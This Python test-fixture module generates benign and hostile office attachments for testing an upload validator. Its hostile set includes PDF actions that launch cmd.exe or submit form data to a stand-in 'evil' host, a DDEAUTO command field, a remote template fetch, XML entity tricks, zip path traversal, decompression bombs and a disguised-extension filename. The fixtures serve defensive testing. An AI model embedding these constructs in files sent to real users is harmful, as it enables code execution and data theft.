"""More than sixty hostile and forty good attachments, made on the spot (S11).

What office programs write, and what abuses it. `GOOD` is name → (file name, bytes); `HOSTILE` is name → (file name,
bytes, what is wrong in words of `plan_files.Fault`).
"""

from __future__ import annotations

import struct
import zlib
from collections.abc import Mapping, Sequence
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile

from openpyxl import Workbook
from xlsxwriter import Workbook as WrittenWorkbook

LIMIT = 500 * 1024
TYPES_XML = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
NO_FAT, END, FREE = 0xFFFFFFFD, 0xFFFFFFFE, 0xFFFFFFFF
SECTOR = 512
OFFICE = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
VBA = b"http://schemas.microsoft.com/office/2006/relationships/vbaProject"


# --- PDF


def pdf(catalog: bytes = b"", *objects: bytes, head: bytes = b"%PDF-1.7\n", tail: bytes = b"%%EOF\n") -> bytes:
    """A small PDF: further entries of its catalog, further objects."""
    body = (
        b"1 0 obj\n<</Type/Catalog/Pages 2 0 R"
        + catalog
        + b">>\nendobj\n2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\n"
    )
    body += b"".join(b"%d 0 obj\n%s\nendobj\n" % (number, text) for number, text in enumerate(objects, 3))
    return head + b"%\xe2\xe3\xcf\xd3\n" + body + b"trailer\n<</Root 1 0 R>>\nstartxref\n9\n" + tail


def packed(content: bytes, kind: bytes = b"/ObjStm", filters: bytes = b"/FlateDecode") -> bytes:
    """A packed stream of objects."""
    data = zlib.compress(content)
    return b"<</Type%s/N 1/First 4/Filter%s/Length %d>>\nstream\n%s\nendstream" % (kind, filters, len(data), data)


# --- zip packages


def package(
    main: str, parts: Mapping[str, bytes] | None = None, *, types: bytes = TYPES_XML, how: int = ZIP_DEFLATED
) -> bytes:
    """A zip package with its types, a main part and further `parts`."""
    file = BytesIO()
    with ZipFile(file, "w", how) as made:
        for name, content in {"[Content_Types].xml": types, main: b"<document/>", **(parts or {})}.items():
            made.writestr(name, content)
    return file.getvalue()


def docx(parts: Mapping[str, bytes] | None = None, **how: bytes) -> bytes:
    """A Word package."""
    return package("word/document.xml", parts, **how)  # type: ignore[arg-type]


def xlsx(parts: Mapping[str, bytes] | None = None, **how: bytes) -> bytes:
    """An Excel package."""
    return package("xl/workbook.xml", parts, **how)  # type: ignore[arg-type]


def relation(kind: bytes, target: bytes, *, outside: bool = True) -> bytes:
    """A relations part with one relation."""
    mode = b' TargetMode="External"' if outside else b""
    return b'<Relationships><Relationship Id="r1" Type="%s" Target="%s"%s/></Relationships>' % (kind, target, mode)


def field(code: bytes) -> bytes:
    """A Word document with a field."""
    return b'<w:document><w:instrText xml:space="preserve">%s</w:instrText></w:document>' % code


def encrypted_zip() -> bytes:
    """A package whose parts say that they are encrypted."""
    content = bytearray(docx())
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = content.find(mark)
        while start >= 0:
            content[start + at] |= 1
            start = content.find(mark, start + 1)
    return bytes(content)


def twice() -> bytes:
    """A package in which one name stands twice: two readers may see two documents."""
    content = docx({"word/documenu.xml": b"<x/>"})
    return content.replace(b"word/documenu.xml", b"word/document.xml")


def openpyxl_book() -> bytes:
    """A workbook as openpyxl writes it."""
    book, file = Workbook(), BytesIO()
    book.active.append(["日期", "课程", "教师"])
    book.save(file)
    return file.getvalue()


def chart_book() -> bytes:
    """A workbook with formulas, a chart and a link, as xlsxwriter writes it."""
    file = BytesIO()
    book = WrittenWorkbook(file, {"in_memory": True})
    sheet = book.add_worksheet("课程表")
    sheet.write_column("A1", [1, 2, 3])
    sheet.write_formula("A4", "=SUM(A1:A3)")
    sheet.write_url("B1", "https://www.moe.gov.cn")
    chart = book.add_chart({"type": "column"})
    chart.add_series({"values": "=课程表!$A$1:$A$3"})
    sheet.insert_chart("D2", chart)
    book.close()
    return file.getvalue()


# --- compound files


def compound(streams: Mapping[str, bytes] | Sequence[str], *, loop: bool = False) -> bytes:
    """A compound file with these streams (names alone: empty ones); contents lie in sectors behind the directory."""
    held = dict(streams) if isinstance(streams, Mapping) else dict.fromkeys(streams, b"")
    directory = -(-len(held) // 4)
    chain = [NO_FAT, *range(2, directory + 1), 1 if loop else END]
    entries = data = b""
    for name, content in held.items():
        length = -(-len(content) // SECTOR)
        start = len(chain) if content else END
        chain += [*range(start + 1, start + length), END] if content else []
        entries += _entry(name, start, len(content))
        data += content.ljust(length * SECTOR, b"\0")
    fat = struct.pack("<128I", *chain, *([FREE] * (128 - len(chain))))
    return _header() + fat + entries.ljust(directory * SECTOR, b"\0") + data


def _header() -> bytes:
    header = bytearray(SECTOR)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HH", header, 24, 0x3E, 3)
    struct.pack_into("<HH", header, 28, 0xFFFE, 9)
    struct.pack_into("<II", header, 44, 1, 1)
    struct.pack_into("<II", header, 68, END, 0)
    struct.pack_into("<109I", header, 76, 0, *([FREE] * 108))
    return bytes(header)


def _entry(name: str, start: int, length: int) -> bytes:
    text = name.encode("utf-16-le")
    entry = bytearray(128)
    entry[: len(text)] = text
    struct.pack_into("<HB", entry, 64, len(text) + 2, 5 if name == "Root Entry" else 2)
    struct.pack_into("<II", entry, 116, start, length)
    return bytes(entry)


def records(*kinds: tuple[int, bytes]) -> bytes:
    """The records of an old workbook."""
    return b"".join(struct.pack("<HH", kind, len(data)) + data for kind, data in kinds)


def old_word(*further: str, flags: int = 0) -> bytes:
    """An old document; `flags` is the byte that says whether it is encrypted."""
    head = bytearray(1472)
    head[:4] = b"\xec\xa5\xc1\x00"
    head[11] = flags
    return compound({"Root Entry": b"", "WordDocument": bytes(head), "1Table": b"x", **dict.fromkeys(further, b"")})


def old_excel(*kinds: tuple[int, bytes], stream: str = "Workbook") -> bytes:
    """An old workbook with these records between its first and its last."""
    book = records((0x809, b"\x00\x06\x05\x00" + b"\0" * 12), *kinds, (0x0A, b""))
    return compound({"Root Entry": b"", stream: book, "\x05SummaryInformation": b""})


def sheet(kind: int) -> tuple[int, bytes]:
    """The record of a sheet; kind 0 is a table, 1 a sheet of macros, 2 a chart."""
    return 0x85, b"\0\0\0\0\0" + bytes([kind]) + b"\x06\0Sheet1"


PDF, STORED = pdf(), package("word/document.xml", how=ZIP_STORED)
RELS = "word/_rels/document.xml.rels"
SETTINGS = "word/_rels/settings.xml.rels"

GOOD: dict[str, tuple[str, bytes]] = {
    "pdf": ("方案.pdf", PDF),
    "pdf, upper case": ("PLAN.PDF", PDF),
    "pdf, old version": ("a.pdf", pdf(head=b"%PDF-1.3\n")),
    "pdf, newest version": ("a.pdf", pdf(head=b"%PDF-2.0\n")),
    "pdf, lines after the end": ("a.pdf", pdf(tail=b"%%EOF\r\n\r\n")),
    "pdf, zeros after the end": ("a.pdf", pdf(tail=b"%%EOF\n" + b"\0" * 64)),
    "pdf, saved again with a second end": ("a.pdf", PDF + b"5 0 obj\n<</Type/Metadata>>\nendobj\n%%EOF\n"),
    "pdf, opens on its first page": ("a.pdf", pdf(b"/OpenAction[2 0 R/XYZ null null 0]")),
    "pdf, links to a page": ("a.pdf", pdf(b"", b"<</Subtype/Link/A<</S/URI/URI(https://www.zj.gov.cn)>>>>")),
    "pdf, form to fill in": ("a.pdf", pdf(b"/AcroForm<</Fields[]>>")),
    "pdf, outline and tags": ("a.pdf", pdf(b"/Outlines 3 0 R/MarkInfo<</Marked true>>", b"<</Type/Outlines>>")),
    "pdf, packed objects": ("a.pdf", pdf(b"", packed(b"4 0 <</Type/Font>>"))),
    "pdf, a picture that spells a script": (
        "a.pdf", pdf(b"", b"<</Length 9>>\nstream\n\x01/JS \x02/AA\nendstream")),
    "pdf, speaks of scripts": ("a.pdf", pdf(b"", packed(b"(/JavaScript) Tj", kind=b"/XObject"))),
    "pdf, just the limit": ("a.pdf", pdf(tail=b" " * (LIMIT - len(PDF)) + b"%%EOF\n")),
    "word": ("方案.docx", docx()),
    "word, upper case": ("A.DOCX", docx()),
    "word, stored without packing": ("a.docx", STORED),
    "word, pictures": ("a.docx", docx({"word/media/i.png": b"\x89PNG", "word/media/i.svg": b"<svg/>"})),
    "word, a chart with its sheet": ("a.docx", docx({
        "word/embeddings/sheet1.xlsx": b"PK", "word/charts/c.xml": b"<c/>",
        "word/charts/_rels/c.xml.rels": relation(OFFICE + b"package", b"../embeddings/sheet1.xlsx", outside=False)})),
    "word, a link to a page": ("a.docx", docx({RELS: relation(OFFICE + b"hyperlink", b"http://www.zj.gov.cn")})),
    "word, a linked picture": ("a.docx", docx({RELS: relation(OFFICE + b"image", b"http://www.zj.gov.cn/l.png")})),
    "word, page numbers and contents": ("a.docx", docx({"word/footer1.xml": field(b" PAGE "),
                                                        "word/header1.xml": field(b" TOC \\o 1-3 ")})),
    "word, speaks of DDE": ("a.docx", docx({"word/footnotes.xml": b"<w:t>DDE and DDEAUTO are refused</w:t>"})),
    "word by WPS": ("a.docx", docx({"docProps/custom.xml": b"<p><KSOProductBuildVer>2052</KSOProductBuildVer></p>",
                                    "customXml/item1.xml": b"<s/>", "customXml/_rels/item1.xml.rels": b"<R/>"})),
    "word by LibreOffice": ("a.docx", docx({"docProps/app.xml": b"<Application>LibreOffice/7.6</Application>"})),
    "word, wide letters": ("a.docx", docx({"word/styles.xml": "\ufeff<样式/>".encode("utf-16-le")})),
    "word, long comment first": ("a.docx", docx({"word/styles.xml": b"<!--" + b" " * 9000 + b"--><x/>"})),
    "excel": ("a.xlsx", xlsx()),
    "excel, stored without packing": ("a.xlsx", package("xl/workbook.xml", how=ZIP_STORED)),
    "excel by openpyxl": ("课程表.xlsx", openpyxl_book()),
    "excel with formulas and a chart": ("课程表.xlsx", chart_book()),
    "excel by WPS": ("a.xlsx", xlsx({"xl/cellimages.xml": b"<c/>", "docProps/custom.xml": b"<KSO/>"})),
    "excel, refers to another file": ("a.xlsx", xlsx({"xl/externalLinks/externalLink1.xml": b"<externalBook/>"})),
    "old word": ("a.doc", old_word("\x05SummaryInformation")),
    "old word by WPS": ("a.doc", old_word("WpsCustomData", "Data")),
    "old word by LibreOffice": ("a.doc", old_word("\x01CompObj", "\x05DocumentSummaryInformation")),
    "old excel": ("a.xls", old_excel(sheet(0), sheet(0))),
    "old excel with a chart": ("a.xls", old_excel(sheet(0), sheet(2))),
    "older excel": ("a.xls", old_excel(sheet(0), stream="Book")),
}  # fmt: skip

HOSTILE: dict[str, tuple[str, bytes, set[str]]] = {
    "nothing": ("a.pdf", b"", {"empty"}),
    "501 KB": ("a.pdf", PDF + b" " * (501 * 1024 - len(PDF)), {"too_large"}),
    "one byte too many": ("a.pdf", PDF + b" " * (LIMIT + 1 - len(PDF)), {"too_large"}),
    "a program": ("setup.exe", b"MZ" + b"\0" * 100, {"type"}),
    "large and of no type": ("a.exe", b"MZ" * LIMIT, {"too_large", "type"}),
    "a program called pdf": ("方案.pdf", b"MZ" + b"\0" * 100, {"content"}),
    "a program called docx": ("a.docx", b"MZ" + b"\0" * 100, {"content"}),
    "a program called doc": ("a.doc", b"MZ" + b"\0" * 100, {"content"}),
    "a linux program called pdf": ("a.pdf", b"\x7fELF" + b"\0" * 100, {"content"}),
    "a script called pdf": ("a.pdf", b"#!/bin/sh\n%PDF-1.7\n%%EOF\n", {"content"}),
    "a page called pdf": ("a.pdf", b"<html><script>alert(1)</script>%PDF-1.7 %%EOF", {"content"}),
    "two extensions": ("plan.pdf.exe", PDF, {"type"}),
    "no extension": ("plan", PDF, {"type"}),
    "an extension that reads backwards": ("plan\u202efdp.exe", PDF, {"type"}),
    "macro word": ("a.docm", docx(), {"type"}),
    "macro excel": ("a.xlsm", xlsx(), {"type"}),
    "a page called doc": ("a.doc", b"<html><script>alert(1)</script></html>", {"content"}),
    "rich text called doc": ("a.doc", rb"{\rtf1{\object\objdata 0}}", {"content"}),
    "new word called doc": ("a.doc", docx(), {"content"}),
    "old word called docx": ("a.docx", old_word(), {"content"}),
    "excel called word": ("a.docx", xlsx(), {"content"}),
    "old excel called doc": ("a.doc", old_excel(), {"content"}),
    "any zip": ("a.docx", package("readme.txt"), {"content"}),
    "a java archive": ("a.docx", package("META-INF/MANIFEST.MF", {"A.class": b"\xca\xfe\xba\xbe"}), {"content"}),
    "a program before the zip": ("a.docx", b"MZ\0\0" + docx(), {"content"}),
    "pdf cut off": ("a.pdf", PDF[:-8], {"damaged"}),
    "pdf with a zip behind it": ("a.pdf", PDF + package("evil.js"), {"damaged"}),
    "word cut off": ("a.docx", docx()[:-30], {"damaged"}),
    "old word cut off": ("a.doc", old_word()[:600], {"damaged"}),
    "old word in a circle": ("a.doc", compound(["Root Entry", "WordDocument"], loop=True), {"damaged"}),
    "broken part": ("a.docx", STORED.replace(b"<document/>", b"<d0cument/>"), {"damaged"}),
    "a name twice": ("a.docx", twice(), {"damaged"}),
    "pdf with a script": ("a.pdf", pdf(b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), {"active"}),
    "pdf with a hidden script": ("a.pdf", pdf(b"/AA<</O<</S/J#61vaScript/JS(x)>>>>"), {"active"}),
    "pdf with a packed script": ("a.pdf", pdf(b"", packed(b"4 0 <</S/JavaScript/JS(x)>>")), {"active"}),
    "pdf with a script nobody can look into": (
        "a.pdf", pdf(b"", packed(b"x", filters=b"[/ASCII85Decode/FlateDecode]")), {"active"}),
    "pdf that starts a program": ("a.pdf", pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>"), {"active"}),
    "pdf with a file inside": ("a.pdf", pdf(b"/Names<</EmbeddedFiles 3 0 R>>", b"<</Names[]>>"), {"active"}),
    "pdf with a form of scripts": ("a.pdf", pdf(b"/AcroForm<</XFA 3 0 R>>", b"<<>>"), {"active"}),
    "pdf that sends what is typed": ("a.pdf", pdf(b"/OpenAction<</S/SubmitForm/F(http://evil)>>"), {"active"}),
    "pdf that blows up": ("a.pdf", pdf(b"", packed(b" " * 17_000_000)), {"bomb"}),
    "pdf with a password": ("a.pdf", PDF.replace(b"/Root", b"/Encrypt 9 0 R/Root"), {"locked"}),
    "macros in docx": ("a.docx", docx({"word/vbaProject.bin": b"x"}), {"active"}),
    "macros under another name": ("a.docx", docx({RELS: relation(VBA, b"p.bin", outside=False)}), {"active"}),
    "macros by type": ("a.docx", docx(types=b"<T>ms-word.document.macroEnabled</T>"), {"active"}),
    "object in docx": ("a.docx", docx({"word/embeddings/oleObject1.bin": b"x"}), {"active"}),
    "program inside": ("a.docx", docx({"word/media/setup.exe": b"MZ"}), {"active"}),
    "macro workbook inside": ("a.docx", docx({"word/embeddings/b.xlsm": b"PK"}), {"active"}),
    "template from outside": (
        "a.docx", docx({SETTINGS: relation(OFFICE + b"attachedTemplate", b"http://evil/x.dotm")}), {"active"}),
    "page brought along": (
        "a.docx", docx({RELS: relation(OFFICE + b"aFChunk", b"afchunk.mht", outside=False)}), {"active"}),
    "field that runs a command": (
        "a.docx", docx({"word/header1.xml": field(b'DDEAUTO c:\\\\cmd.exe "/k"')}), {"active"}),
    "cell that runs a command": (
        "a.xlsx", xlsx({"xl/externalLinks/e.xml": b"<ddeLink ddeService='cmd'/>"}), {"active"}),
    "entities": ("a.docx", docx({"word/styles.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x/>'}), {"active"}),
    "entities in wide letters": (
        "a.docx", docx({"word/styles.xml": '\ufeff<!DOCTYPE x [<!ENTITY a "b">]><x/>'.encode("utf-16-le")}),
        {"active"}),
    "entities behind a long comment": (
        "a.docx", docx({"word/styles.xml": b"<!--" + b" " * 9000 + b'--><!DOCTYPE x SYSTEM "file:///x"><x/>'}),
        {"active"}),
    "macro sheet": ("a.xlsx", xlsx({"xl/macrosheets/sheet1.xml": b"<x/>"}), {"active"}),
    "macros in doc": ("a.doc", old_word("Macros", "_VBA_PROJECT"), {"active"}),
    "object in doc": ("a.doc", old_word("ObjectPool"), {"active"}),
    "macros in xls": ("a.xls", compound(["Root Entry", "Workbook", "_VBA_PROJECT_CUR"]), {"active"}),
    "macro sheet in xls": ("a.xls", old_excel(sheet(0), sheet(1)), {"active"}),
    "locked docx": ("a.docx", compound(["Root Entry", "EncryptionInfo", "EncryptedPackage"]), {"locked"}),
    "locked parts": ("a.docx", encrypted_zip(), {"locked"}),
    "locked doc": ("a.doc", old_word(flags=1), {"locked"}),
    "locked xls": ("a.xls", old_excel((0x2F, b"\0" * 6), sheet(0)), {"locked"}),
    "leaves the package": ("a.docx", docx({"../../evil.xml": b"<x/>"}), {"damaged"}),
    "absolute part": ("a.docx", docx({"/etc/passwd": b"x"}), {"damaged"}),
    "bomb": ("a.docx", docx({"word/styles.xml": b" " * 60_000_000}), {"bomb"}),
    "very many parts": ("a.docx", docx({f"word/{n}.txt": b"" for n in range(2100)}), {"bomb"}),
    "long name": (f"{'长' * 130}.pdf", PDF, {"name"}),
}  # fmt: skip
